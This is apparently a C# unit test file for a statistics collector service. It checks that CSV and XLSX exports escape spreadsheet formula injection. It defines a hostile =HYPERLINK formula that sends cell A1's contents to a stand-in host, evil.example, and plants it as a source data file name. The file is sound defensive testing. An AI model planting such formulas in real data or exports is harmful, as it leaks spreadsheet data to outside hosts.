using System.IO.Compression;
using System.Text;
using WuzhongCollector.Service.Web;

namespace WuzhongCollector.Service.Tests.Plan;

/// <summary>
/// Issue 12: text from a source was written verbatim into CSV, so a spreadsheet ran <c>=HYPERLINK(…)</c> when an
/// analyst opened it. Areas are codes now (issue 11), but where a figure was read is stored as text and shown in
/// every CSV and XLSX answer, and it starts with the data file's name, which a department chooses. Text cells are
/// escaped; numbers stay numbers.
/// </summary>
public sealed class CsvInjectionTests : IDisposable
{
    private const string Formula = "=HYPERLINK(\"https:evil.example?\"&A1,\"open\")";

    private readonly TestConfig config = new();

    public CsvInjectionTests()
    {
        config.WriteSource("hostile", $$"""
            name: a data file whose name is a formula
            kind: csv
            schedule: { cron: "0 2 * * *" }
            file: { path: '{{Formula}}.csv' }
            mapping:
              indicator: { const: INDUSTRIAL_ROBOTS_DEPLOYED }
              area: { const: "320506" }
              period: 期别
              value: 数值
            """);
        config.WriteFile(Formula + ".csv", """
            期别,数值
            2021年,310
            2022年,-5
            """);
    }

    public void Dispose() => config.Dispose();

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@x", "'@x")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("a=1", "a=1")]
    [InlineData("", "")]
    public void Escape_PrefixesWhatASpreadsheetWouldRun(string text, string expected) => Assert.Equal(expected, CsvAnswer.Escape(text));

    [Fact]
    public async Task SeriesAndExportCsv_EscapeFormulaText_FromTheSource_NumbersStayNumbers()
    {
        await using var host = await CollectorHost.StartAsync(config);
        await host.CollectAsync("hostile");

        var series = await host.Http.GetStringAsync("/api/series/INDUSTRIAL_ROBOTS_DEPLOYED?format=csv");
        var export = await host.Http.GetStringAsync("/api/export/observations?format=csv&lang=en&indicators=INDUSTRIAL_ROBOTS_DEPLOYED");

        foreach (var csv in new[] { series, export })
        {
            var rows = csv.TrimStart('\uFEFF').TrimEnd().Split('\n').Skip(1).ToList();
            Assert.Equal(2, rows.Count);
            Assert.All(rows, row => Assert.Contains(",\"'=HYPERLINK(\"\"https:evil.example?\"\"&A1,\"\"open\"\").csv row ", row, StringComparison.Ordinal));
            Assert.Contains(",310,", rows[0], StringComparison.Ordinal);
            Assert.Contains(",-5,", rows[1], StringComparison.Ordinal);
            Assert.DoesNotContain(",\"=", csv, StringComparison.Ordinal);
            Assert.DoesNotContain(",=", csv, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task XlsxExport_WritesFormulaTextAsText_AndNumbersAsNumbers()
    {
        await using var host = await CollectorHost.StartAsync(config);
        await host.CollectAsync("hostile");

        var bytes = await host.Http.GetByteArrayAsync("/api/export/observations?format=xlsx&lang=en&indicators=INDUSTRIAL_ROBOTS_DEPLOYED");

        using var zip = new ZipArchive(new MemoryStream(bytes));
        var xml = string.Concat(zip.Entries.Where(e => e.FullName.StartsWith("xl/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal))
            .Select(e => new StreamReader(e.Open(), Encoding.UTF8).ReadToEnd()));
        Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
        Assert.DoesNotContain("<x:f>", xml, StringComparison.Ordinal);
        Assert.Contains("=HYPERLINK(", xml, StringComparison.Ordinal);
        Assert.Matches("<(x:)?c [^>]*t=\"(str|s|inlineStr)\"", xml);
        Assert.Matches("<(x:)?v>-5</(x:)?v>", xml);
    }
}
